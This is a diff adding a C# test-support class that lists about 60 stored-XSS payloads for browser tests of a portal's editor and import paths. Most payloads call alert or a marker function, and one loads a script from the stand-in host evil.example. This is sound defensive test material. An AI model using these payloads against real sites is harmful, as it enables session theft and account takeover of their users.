@@ -1,0 +1,76 @@
+namespace InkoopPortal.TestSupport.Security;
+
+/// <summary>
+/// Stored-XSS payloads for the editor and import paths: raw HTML, event handlers, dangerous URL schemes in Markdown
+/// links, images and autolinks, encodings and case tricks, SVG/MathML, CSS and markup that tries to break out of
+/// attributes or the Markdown. Each payload that could run calls <c>window.__xss(n)</c> or <c>alert(n)</c>, so a
+/// browser test sees both a dialog and a call. Single lines: the import format is tab-separated.
+/// </summary>
+public static class XssCorpus
+{
+    public static readonly IReadOnlyList<string> Payloads =
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<script>window.__xss(3)</script>",
+        "<img src=x onerror=alert(4)>",
+        "<img src=x onerror=\"window.__xss(5)\">",
+        "<IMG SRC=\"javascript:alert(6);\">",
+        "<IMG SRC=JaVaScRiPt:alert(7)>",
+        "<img src=\"jav&#x09;ascript:alert(8);\">",
+        "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(9)\">",
+        "<svg onload=alert(10)>",
+        "<svg><script>alert(11)</script></svg>",
+        "<svg><a xlink:href=\"javascript:alert(12)\"><text x=\"20\" y=\"20\">klik</text></a></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>",
+        "<body onload=alert(14)>",
+        "<iframe src=\"javascript:alert(15)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(16)</script>\"></iframe>",
+        "<object data=\"javascript:alert(17)\"></object>",
+        "<embed src=\"javascript:alert(18)\">",
+        "<a href=\"javascript:alert(19)\">klik</a>",
+        "<a href=\"  javascript:alert(20)\">klik</a>",
+        "<a href=\"vbscript:msgbox(21)\">klik</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=\">klik</a>",
+        "<div onmouseover=\"alert(23)\">beweeg</div>",
+        "<details open ontoggle=alert(24)>",
+        "<input autofocus onfocus=alert(25)>",
+        "<button formaction=\"javascript:alert(26)\">knop</button>",
+        "<form action=\"javascript:alert(27)\"><input type=submit></form>",
+        "<video><source onerror=\"alert(28)\"></video>",
+        "<audio src=x onerror=alert(29)>",
+        "<marquee onstart=alert(30)>tekst</marquee>",
+        "<style>@import 'javascript:alert(31)';</style>",
+        "<div style=\"background:url(javascript:alert(32))\">x</div>",
+        "<div style=\"width: expression(alert(33))\">x</div>",
+        "<link rel=stylesheet href=\"javascript:alert(34)\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(35)\">",
+        "<base href=\"javascript:alert(36)//\">",
+        "\"><script>alert(37)</script>",
+        "'><img src=x onerror=alert(38)>",
+        "</td><script>alert(39)</script><td>",
+        "<<script>alert(40);//<</script>",
+        "<scr<script>ipt>alert(41)</scr</script>ipt>",
+        "[klik](javascript:alert(42))",
+        "[klik](JaVaScRiPt:alert(43))",
+        "[klik](javascript&#58;alert(44))",
+        "[klik](&#106;avascript:alert(45))",
+        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nik8L3NjcmlwdD4=)",
+        "[klik](vbscript:msgbox(47))",
+        "![plaatje](javascript:alert(48))",
+        "![plaatje](x \"onerror=alert(49)\")",
+        "<javascript:alert(50)>",
+        "[klik][ref] [ref]: javascript:alert(51)",
+        "[klik](<javascript:alert(52)>)",
+        "- punt <img src=x onerror=alert(53)>",
+        "- **vet** <a href=javascript:alert(54)>x</a>",
+        "`<script>alert(55)</script>`",
+        "[^1] voetnoot [^1]: <script>alert(56)</script>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(57)>\">",
+        "<template><script>alert(58)</script></template>",
+        "<a href=\"#\" onclick=\"window.__xss(59)\">klik</a>",
+        "{onclick=alert(60)} [klik](#){onclick=alert(60)}",
+        "<x onclick=alert(61)>klik</x>",
+        "<a href=\"java\u0000script:alert(62)\">klik</a>",
+    ];
+}
